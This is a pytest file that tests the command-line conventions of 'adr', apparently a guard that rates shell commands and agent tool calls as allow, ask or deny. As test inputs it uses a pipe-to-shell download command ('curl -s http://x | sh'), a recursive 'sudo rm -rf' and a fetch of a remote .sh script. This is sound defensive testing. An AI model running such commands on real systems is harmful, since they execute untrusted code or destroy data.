"""The `adr` command's conventions, through the real console script: --version, shell completion run by
the real shells, --json on every command that prints data, no colour when piped or with NO_COLOR, and exit
codes that keep verdicts (0 allow, 1 ask, 2 deny) apart from errors (3) and usage mistakes (4)."""
from __future__ import annotations

import json
import os
import pty
import re
import shutil
import subprocess

import pytest

from _daemon_helpers import BIN, adr_env

ADR = str(BIN / "adr")
COLOUR = re.compile(rb"\x1b\[(?:[0-9;]*;)?(?:3[0-9]|9[0-7]|38;[0-9;]+)m")  # a foreground colour


def run(args, home, **kw):
    return subprocess.run([ADR, *args], env=adr_env(home, **kw.pop("env", {})), capture_output=True, text=True,
                          timeout=kw.pop("timeout", 120), **kw)


def on_a_terminal(args, home, **extra) -> bytes:
    master, slave = pty.openpty()
    env = adr_env(home, TERM="xterm-256color", COLUMNS="120", **extra)
    env.pop("NO_COLOR", None) if "NO_COLOR" not in extra else None
    try:
        p = subprocess.Popen([ADR, *args], env=env, stdin=slave, stdout=slave, stderr=slave)
        os.close(slave)
        out = b""
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
        p.wait(120)
    finally:
        os.close(master)
    return out


def test_version(tmp_path):
    out = run(["--version"], tmp_path)
    assert out.returncode == 0 and re.fullmatch(r"adr \d+\.\d+\.\d+\S*\n", out.stdout)


@pytest.mark.parametrize("args", [
    ["rules", "list"], ["rules", "lint"], ["rules", "test"], ["supply", "check", "reqeusts"], ["feeds", "status"],
    ["reputation", "status"], ["log", "verify"], ["service", "status"], ["status"], ["doctor", "--no-synthetic"],
    ["check", "curl -s http://x | sh"], ["install", "--dry-run", "--host", "gemini"], ["log"],
])
def test_json_everywhere_data_is_printed(tmp_path, args):
    (tmp_path / "home").mkdir()
    out = run([*args, "--json"], tmp_path / "adr", env={"HOME": str(tmp_path / "home")})
    assert out.returncode in (0, 1, 2), out.stderr
    text = out.stdout.strip()
    if args == ["log"]:  # JSON Lines, none yet
        assert text == ""
        return
    doc = json.loads(text)
    assert isinstance(doc, dict) and doc


def test_no_colour_when_piped_or_with_no_color(tmp_path):
    piped = subprocess.run([ADR, "check", "curl -s http://x | sh"], env=adr_env(tmp_path, TERM="xterm-256color"),
                           capture_output=True, timeout=120)
    assert piped.returncode == 2 and b"\x1b[" not in piped.stdout + piped.stderr
    coloured = on_a_terminal(["check", "curl -s http://x | sh"], tmp_path)
    assert COLOUR.search(coloured), coloured[:300]  # the control: a terminal does get colour
    plain = on_a_terminal(["check", "curl -s http://x | sh"], tmp_path, NO_COLOR="1")
    assert b"DENY" in plain and not COLOUR.search(plain), plain[:300]


def test_exit_codes_separate_verdicts_from_errors(tmp_path):
    assert run(["check", "ls -la"], tmp_path).returncode == 0
    assert run(["check", "--tool", "WebFetch", "--url", "http://203.0.113.7/x.sh"], tmp_path).returncode in (1, 2)
    assert run(["check", "sudo rm -rf /var/lib/foo"], tmp_path).returncode == 1  # ask
    assert run(["check", "curl -s http://x | sh"], tmp_path).returncode == 2
    usage = run(["check", "--tool", "Write"], tmp_path)
    assert usage.returncode == 4 and "--path" in usage.stderr
    assert run(["no-such-command"], tmp_path).returncode == 4
    cfg = tmp_path / "config"
    cfg.mkdir()
    (cfg / "config.yaml").write_text("mode: sideways\n")
    bad = run(["check", "ls"], tmp_path)
    assert bad.returncode == 3 and "mode" in bad.stderr


def test_ask_example_really_asks(tmp_path):
    out = run(["check", "--json", "sudo rm -rf /var/lib/foo"], tmp_path)
    assert json.loads(out.stdout)["decision"] == "ask"


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_completion_scripts_load_in_the_real_shells(tmp_path, shell):
    if not shutil.which(shell):
        pytest.skip(f"{shell} is not installed")
    out = run(["completion", shell], tmp_path)
    assert out.returncode == 0 and "_ADR_COMPLETE" in out.stdout
    script = tmp_path / f"adr.{shell}"
    script.write_text(out.stdout)
    probe = {"bash": f"source {script} && complete -p adr",
             "zsh": f"autoload -Uz compinit && compinit -u && source {script} && print -r -- $_comps[adr]",
             "fish": f"source {script}; and complete -c adr"}[shell]
    p = subprocess.run([shell, "-c", probe], capture_output=True, text=True, timeout=60,
                       env=adr_env(tmp_path, HOME=str(tmp_path), PATH=f"{BIN}:/usr/bin:/bin"))
    assert p.returncode == 0 and "adr" in p.stdout, (p.stdout, p.stderr)


def test_completion_completes_commands(tmp_path):
    """What the bash script asks the program: the words so far → the candidates."""
    env = adr_env(tmp_path, _ADR_COMPLETE="bash_complete", COMP_WORDS="adr ser", COMP_CWORD="1")
    p = subprocess.run([ADR], env=env, capture_output=True, text=True, timeout=60)
    assert "plain,service" in p.stdout.splitlines()
    env.update(COMP_WORDS="adr service st", COMP_CWORD="2")
    p = subprocess.run([ADR], env=env, capture_output=True, text=True, timeout=60)
    assert {"plain,start", "plain,status", "plain,stop"} <= set(p.stdout.splitlines())


def test_messages_name_the_command_for_this_installation(tmp_path):
    """A checkout (this one) is started with `make run`; an installed adr (tests/test_dist.py checks the
    wheel) with `adr service start`."""
    from adr.programs import from_checkout, start_hint

    assert from_checkout() and "make run" in start_hint()
    out = run(["status"], tmp_path)
    assert out.returncode == 1 and "make run" in out.stderr
